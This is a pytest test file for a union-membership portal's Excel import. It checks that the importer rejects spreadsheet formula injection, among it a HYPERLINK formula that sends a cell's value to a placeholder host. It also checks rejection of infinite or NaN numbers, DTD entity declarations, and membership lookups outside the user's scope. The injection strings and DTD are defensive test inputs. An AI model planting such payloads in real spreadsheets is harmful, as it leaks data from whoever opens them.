"""Hostile rows of the member import (security.md E5) and who holds a person (issue 14):
text a spreadsheet would run as a formula and numbers that are no numbers are row errors;
a person held outside the user's scope is refused without naming the union, within a daily
allowance of such hits."""

from __future__ import annotations

from decimal import Decimal

import pytest
from auditlog.models import LogEntry

from members.models import Member
from tests.factories import MemberFactory, OrganisationFactory
from unionportal.core.models import FileJob

from .excel_helpers import (
    check_and_commit,
    errors_of,
    latest_job,
    person,
    post_file,
    private_storage,  # noqa: F401 (fixture)
    replace_in_zip,
    workbook_bytes,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_storage")]


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x/?"&B1,"点击")', "\t=1+1", "@SUM(A1)", "+1+1", "-1+1"],
    ids=["equals", "tab-equals", "at", "plus", "minus"],
)
def test_text_that_would_run_as_a_formula_is_a_row_error(city, chair_a, as_user, name):
    """Even typed as text, a name Excel would run as a formula is refused, not stored
    (security.md E5): the row says which cell and why, and no row of the file is written."""
    content = workbook_bytes([person(1), person(2, name=name)], text_cells={(1, "name")})
    job = check_and_commit(as_user(chair_a), city.union_a, content)
    errors = errors_of(job)
    assert [(r, c) for r, c, _ in errors] == [(3, "姓名")]
    assert "公式" in errors[0][2]
    assert Member.objects.count() == 0


def with_cell_xml(content: bytes, old: bytes, new: bytes) -> bytes:
    """The workbook with one stored cell value replaced in the sheet's XML (what a hostile or
    broken writer can store, which openpyxl itself never writes)."""
    return replace_in_zip(content, "xl/worksheets/sheet1.xml", lambda d: d.replace(old, new))


@pytest.mark.parametrize("stored", [b"1E+999", b"-1E+999"])
def test_a_wage_base_that_is_no_number_is_a_row_error(city, chair_a, as_user, stored):
    """A numeric cell holding `inf` (1E+999 reads as infinity) was stored as a wage base of 0
    (security.md E5)."""
    rows = [person(1), person(2, wage_base=Decimal("1234.5"))]
    content = with_cell_xml(workbook_bytes(rows), b"<v>1234.5</v>", b"<v>" + stored + b"</v>")
    job = check_and_commit(as_user(chair_a), city.union_a, content)
    assert [(r, c) for r, c, _ in errors_of(job)] == [(3, "缴费工资基数")]
    assert Member.objects.count() == 0


@pytest.mark.parametrize("stored", [b"inf", b"NaN"])
def test_a_numeric_cell_the_reader_cannot_parse_fails_the_file_cleanly(
    city, chair_a, as_user, stored
):
    rows = [person(1), person(2, wage_base=Decimal("1234.5"))]
    content = with_cell_xml(workbook_bytes(rows), b"<v>1234.5</v>", b"<v>" + stored + b"</v>")
    job = check_and_commit(as_user(chair_a), city.union_a, content)
    assert job.status == FileJob.Status.FAILED and "无法读取该工作簿" in job.error
    assert Member.objects.count() == 0


@pytest.mark.parametrize("typed", ["inf", "NaN", "-Infinity"])
def test_a_wage_base_typed_as_inf_is_a_row_error(city, chair_a, as_user, typed):
    job = check_and_commit(
        as_user(chair_a), city.union_a, workbook_bytes([person(1), person(2, wage_base=typed)])
    )
    assert [(r, c) for r, c, _ in errors_of(job)] == [(3, "缴费工资基数")]
    assert Member.objects.count() == 0


def test_a_member_of_a_union_outside_the_scope_is_refused_without_naming_it_and_audited(
    city, chair_a, as_user
):
    other = MemberFactory(organisation=city.union_b, resident_id=person(4)["resident_id"])
    client = as_user(chair_a)
    post_file(client, city.union_a, workbook_bytes([person(3), person(4)]))
    [(row, column, message)] = errors_of(latest_job())
    assert (row, column) == (3, "身份证号")
    assert message == "此人已在其他工会登记，请联系上级工会办理接转" and "乙公司" not in message
    hit = LogEntry.objects.get(additional_data__event="member.one_membership_hit")
    assert hit.object_pk == str(other.pk) and hit.actor == chair_a
    assert hit.additional_data["outside_scope"] is True


def test_a_member_held_within_the_scope_is_named(city, as_user, county_user):
    """The county sees both its unions: the union holding the person is named."""
    MemberFactory(organisation=city.union_a, resident_id=person(4)["resident_id"])
    union_c = OrganisationFactory(parent=city.county_a, name="丙公司工会")
    post_file(as_user(county_user), union_c, workbook_bytes([person(4)]))
    [(_row, _column, message)] = errors_of(latest_job())
    assert "甲公司工会委员会" in message


def test_a_file_testing_more_numbers_than_the_days_allowance_reports_none(
    city, chair_a, as_user, monkeypatch
):
    """One file can't test 100,000 numbers: past the user's daily allowance of out-of-scope
    hits the file fails as a whole, saying why, and no row tells which numbers are members."""
    from members.services import members as member_services

    monkeypatch.setattr(member_services, "OUTSIDE_HITS_PER_DAY", 2)
    for n in (4, 5, 6):
        MemberFactory(organisation=city.union_b, resident_id=person(n)["resident_id"])
    response = post_file(
        as_user(chair_a), city.union_a, workbook_bytes([person(n) for n in (3, 4, 5, 6)])
    )
    assert response.status_code == 302
    job = latest_job()
    assert job.status == FileJob.Status.FAILED and "次数已达上限" in job.error
    assert "errors" not in job.result
    assert LogEntry.objects.filter(additional_data__event="member.one_membership_limit").exists()
    assert not LogEntry.objects.filter(additional_data__event="member.one_membership_hit").exists()


# --- What the XML tells and the values don't (python-calamine reads cached values) ----------


@pytest.mark.parametrize("number", [420503199001010012, 110105491231002], ids=["18", "15"])
def test_a_resident_id_in_a_number_cell_is_refused_on_its_row(city, chair_a, as_user, number):
    """Excel keeps 15 significant digits: an ID typed into a number cell has lost digits
    (420503199001010012 is stored as 4.2050319900101E+17) and is never guessed back."""
    rows = [person(1), person(2, resident_id=number)]
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes(rows))
    [(row, column, message)] = errors_of(job)
    assert (row, column) == (3, "身份证号")
    assert message.startswith("身份证号请设置为文本格式")
    assert Member.objects.count() == 0


FORMULA_CELLS = {
    # what Excel stores: the formula and its last result, which is all calamine returns
    "with a cached value": b'<c r="A3" t="str"><f>UPPER("x")</f><v>X</v></c>',
    "shared": b'<c r="A3" t="str"><f t="shared" si="0"/><v>X</v></c>',
    "namespaced": b'<c r="A3" t="str"><x:f xmlns:x="http://x">A1</x:f><v>X</v></c>',
}


@pytest.mark.parametrize("stored", FORMULA_CELLS.values(), ids=FORMULA_CELLS.keys())
def test_a_formula_found_by_the_xml_scan_is_a_row_error(city, chair_a, as_user, stored):
    content = with_cell_xml(
        workbook_bytes([person(1), person(2, name='=UPPER("x")')]),
        b'<c r="A3"><f>UPPER("x")</f><v /></c>',
        stored,
    )
    job = check_and_commit(as_user(chair_a), city.union_a, content)
    [(row, column, message)] = errors_of(job)
    assert (row, column) == (3, "姓名") and "公式" in message
    assert Member.objects.count() == 0


def test_an_error_cell_is_a_row_error_showing_the_error(city, chair_a, as_user):
    """calamine reads an error cell as empty; the scan finds it, and the row says which."""
    content = with_cell_xml(
        workbook_bytes([person(1), person(2, education="本科")]),
        b'<c r="D3" t="inlineStr"><is><t>\xe6\x9c\xac\xe7\xa7\x91</t></is></c>',
        b'<c r="D3" t="e"><v>#N/A</v></c>',
    )
    job = check_and_commit(as_user(chair_a), city.union_a, content)
    [(row, column, message)] = errors_of(job)
    assert (row, column) == (3, "学历") and "#N/A" in message


def test_the_scan_reads_the_sheet_in_chunks_and_finds_each_formula_once(monkeypatch):
    """Chunks of 64 bytes split the tags; every formula is still found, once, at its cell."""
    import io

    from unionportal.core import excel

    monkeypatch.setattr(excel, "_SCAN_CHUNK", 64)
    rows = [person(n, name="=1+1" if n % 3 == 0 else f"人{n}") for n in range(1, 31)]
    book = excel.read_xlsx(io.BytesIO(workbook_bytes(rows)))
    [marks] = book.marks.values()
    book.close()
    assert marks == {(n + 1, 0): excel.FORMULA_MARK for n in range(1, 31) if n % 3 == 0}


def test_a_dtd_in_any_part_is_refused_before_parsing(city, chair_a, as_user):
    content = replace_in_zip(
        workbook_bytes([person(1)]),
        "xl/workbook.xml",
        lambda xml: xml.replace(b"<workbook", b'<!DOCTYPE x [<!ENTITY e "e">]><workbook', 1),
    )
    response = post_file(as_user(chair_a), city.union_a, content)
    assert response.context["form"].errors["file"].as_data()[0].code == "unreadable"
    assert not FileJob.objects.exists()
